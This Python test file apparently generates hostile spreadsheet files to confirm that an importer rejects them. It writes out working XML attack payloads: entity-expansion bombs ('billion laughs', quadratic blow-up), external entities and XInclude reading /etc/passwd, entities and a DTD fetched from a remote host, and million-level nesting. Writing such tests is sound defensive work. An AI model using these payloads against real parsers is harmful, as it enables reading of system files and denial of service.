"""Workbooks (.xlsx) with entities and what else XML can do."""

from pathlib import Path

from tests.hostile.packing import (
    HEADER,
    SHEET,
    STYLES,
    TABLE,
    row,
    workbook,
)
from tests.hostile.registry import hostile
from tests.spreadsheets.workbook_files import MAIN

DAMAGED = "damaged"


def _with_document_type(path: Path, declarations: str, value: str) -> None:
    sheet = (
        f"<!DOCTYPE worksheet {declarations}><worksheet {MAIN}><sheetData>"
        f"{HEADER}{row(2, 'BOSCH', '0986452041', value)}</sheetData></worksheet>"
    )
    workbook(path, "", {SHEET: sheet})


def laughs(levels: int = 10) -> str:
    entities = "".join(
        f'<!ENTITY e{level} "{f"&e{level - 1};" * 10}">' for level in range(1, levels)
    )
    return f'[<!ENTITY e0 "ha">{entities}]'


@hostile("XML: a billion laughs", says=DAMAGED)
def billion_laughs(path: Path) -> None:
    _with_document_type(path, laughs(), "&e9;")


@hostile("XML: quadratic blow-up", says=DAMAGED)
def quadratic_blow_up(path: Path) -> None:
    _with_document_type(path, f'[<!ENTITY e "{"x" * 100_000}">]', "&e;" * 100_000)


@hostile("XML: the file /etc/passwd as an entity", says=DAMAGED)
def entity_of_a_file(path: Path) -> None:
    _with_document_type(path, '[<!ENTITY e SYSTEM "file:///etc/passwd">]', "&e;")


@hostile("XML: a page of the web as an entity", says=DAMAGED)
def entity_of_the_web(path: Path) -> None:
    _with_document_type(path, '[<!ENTITY e SYSTEM "http://192.0.2.1/">]', "&e;")


@hostile("XML: a DTD on the web", lines=1)
def document_type_of_the_web(path: Path) -> None:
    _with_document_type(path, 'SYSTEM "http://192.0.2.1/evil.dtd"', "x")


@hostile("XML: XInclude of /etc/passwd", lines=1)
def xinclude(path: Path) -> None:
    include = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="/etc/passwd"/>'
    workbook(path, HEADER + row(2, "BOSCH", "0986452041", include))


@hostile("XML: a billion laughs in the styles", says=DAMAGED)
def laughs_in_styles(path: Path) -> None:
    _with_styles(path, f"<!DOCTYPE styleSheet {laughs()}>", "<x>&e9;</x>")


@hostile("XML: /etc/passwd in the styles", says=DAMAGED)
def file_in_styles(path: Path) -> None:
    declaration = '<!DOCTYPE styleSheet [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    _with_styles(path, declaration, "<x>&e;</x>")


@hostile("XML: a million levels in the styles", lines=1)
def deep_styles(path: Path) -> None:
    _with_styles(path, "", "<x>" * 1_000_000 + "</x>" * 1_000_000)


@hostile("XML: a million levels in the sheet", lines=1)
def deep_sheet(path: Path) -> None:
    workbook(path, TABLE + "<x>" * 1_000_000 + "</x>" * 1_000_000)


@hostile("XML: a million levels in a cell", lines=1)
def deep_cell(path: Path) -> None:
    deep = "<r>" * 1_000_000 + "</r>" * 1_000_000
    workbook(path, f'{TABLE}<row r="3"><c r="A3" t="inlineStr"><is>{deep}</is></c></row>')


def _with_styles(path: Path, before: str, content: str) -> None:
    formats = '<numFmts><numFmt numFmtId="164" formatCode="0000000000"/></numFmts>'
    cells = '<cellXfs><xf numFmtId="0"/><xf numFmtId="164"/></cellXfs>'
    styles = f"{before}<styleSheet {MAIN}>{formats}{cells}{content}</styleSheet>"
    brand = '<c r="A2" t="inlineStr"><is><t>BOSCH</t></is></c>'
    line = f'<row r="2">{brand}<c r="B2" s="1"><v>986452041</v></c></row>'  # styles matter here
    workbook(path, HEADER + line, {STYLES: styles})


for place, part in {
    "workbook": "xl/workbook.xml",
    "relations": "xl/_rels/workbook.xml.rels",
}.items():
    hostile(f"XML: broken in the {place}", says=DAMAGED)(
        lambda path, part=part: workbook(path, TABLE, {part: f"<workbook {MAIN}><sheets><she"})
    )
hostile("XML: broken in the sheet", says="damaged.*“S”|“S”.*damaged")(
    lambda path: workbook(path, "", {SHEET: f"<worksheet {MAIN}><sheetData>{TABLE}<row><c"})
)
hostile("XML: not UTF-8", says="damaged|empty|not recognised")(
    lambda path: workbook(
        path, HEADER.encode() + row(2, "B", "1").encode().replace(b"B", b"\xff\xfe")
    )
)
